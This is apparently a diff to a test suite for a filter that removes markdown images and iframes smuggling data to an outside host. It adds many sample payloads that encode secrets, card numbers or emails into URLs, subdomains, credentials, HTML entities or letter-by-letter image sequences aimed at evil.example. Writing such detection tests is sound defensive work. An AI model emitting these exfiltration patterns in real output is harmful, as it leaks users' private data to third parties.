@@ -49,6 +49,12 @@ describe('addresses that carry data', () => {
     ['a person', 'See ![x](https://evil.example/taro.yamada@mail.example.jp/p.png) here'],
     ['a card', 'See ![x](https://evil.example/4111-1111-1111-1111/p.png) here'],
     ['letters one by one', 'See ![x](https://evil.example/p/f/o/t/e/1/p.png) here'],
+    ['blanks within angle brackets', 'See ![x](<https://evil.example/p?d=the secret code of the house>) here'],
+    ['an address in entities', `See ![x](https&#58;&sol;/evil.example/p?${DATA}) here`],
+    ['a name and a password', 'See ![x](https://user:dGhlIHNlY3JldCBvZiB0@evil.example/p.png) here'],
+    ['letters that need no encoding', 'See ![x](https://evil.example/%74%68%65%20%63%6f%64%65.png) here'],
+    ['a small label of the host', 'See ![x](https://c2vjcmv0y29kzxbmb3rl3a.evil.example/p.png) here'],
+    ['a page within the page', `<iframe src="https://evil.example/p?${DATA}"></iframe>`],
     ['mixed letters', 'See ![x](https://evil.example/a8f3k2m9x1q7b4c6/p.png) here'],
   ])('takes out %s', (_, text) => {
     for (const size of [1, 11, 10_000]) {
@@ -57,6 +63,12 @@ describe('addresses that carry data', () => {
       // Of a picture and its address, which stand apart, one is enough.
       expect(left.replace(/\[(?:1|fig {2}1|logo)\]: (?!\[)\S*/, '')).not.toMatch(/evil\.example/)
     }
+  })
+
+  test('takes out pictures that are called by letters, from where they spell something', () => {
+    const spelt = [...'pfotecode'].map(letter => `![](https://evil.example/x/${letter}.png)`).join(' ')
+    for (const size of [1, 30, 10_000]) expect(shown(`Look: ${spelt} and so on.`, size).left.match(/evil\.example/g)?.length).toBe(4)
+    expect(shown([...'12345678'].map(number => `![](https://example.org/page/${number}.png)`).join(' '), 9).kinds).toEqual([])
   })
 
   test.each([
@@ -72,7 +84,8 @@ describe('addresses that carry data', () => {
 
   test.each([
     `![x](https://known.example/p?${DATA})`, '![logo](https://raw.githubusercontent.com/i18next/i18next/master/assets/i18next-ecosystem.jpg)', '![shot](https://example.org/uploads/2026/11/23/Screen%20Shot%202026-11-23.png)',
-    '![x][1]\n\n[1]: https://example.org/logo.png', '<img src="images/logo.png" alt="a = b">', '<script src="https://cdn.example.org/npm/bootstrap@5.3.0/dist/js/bootstrap.bundle.min.js"></script>',
+    '![x][1]\n\n[1]: https://example.org/logo.png', '![Fuji](https://upload.wikimedia.org/wikipedia/commons/thumb/1/1b/080103_hakkai_fuji.jpg/640px-080103_hakkai_fuji.jpg)', '![x](https://d111111abcdef8.cloudfront.net/a.png)', '![flag](https://flagcdn.com/16x12/jp.png) ![flag](https://flagcdn.com/16x12/de.png)',
+    '![x](<images/my logo.png>)', '![x](images/a&amp;b.png)', '<img src="images/logo.png" alt="a = b">', '<script src="https://cdn.example.org/npm/bootstrap@5.3.0/dist/js/bootstrap.bundle.min.js"></script>',
     '<link href="https://fonts.googleapis.com/css2?family=Roboto:wght@400;700&display=swap" rel="stylesheet">', '@import url("https://fonts.googleapis.com/css2?family=Roboto:wght@400;700");', 'a // b\nc = d // 123456789012345678901234567890',
     '![x](https://example.org/550e8400-e29b-41d4-a716-446655440000.png)', 'Read https://docs.example.org/how-to-install-the-program-on-linux', '![chart](https://upload.example.org/wikipedia/commons/thumb/a/a9/Example.jpg/440px-Example.jpg)',
     '[1]: https://docs.example.org/guide?page=installation', 'See [the list][1] and ![ok](ok.png).\n[1]: https://docs.example.org/guide?page=installation', '![x](https://example.org/photo-2026-11-23.jpg)',
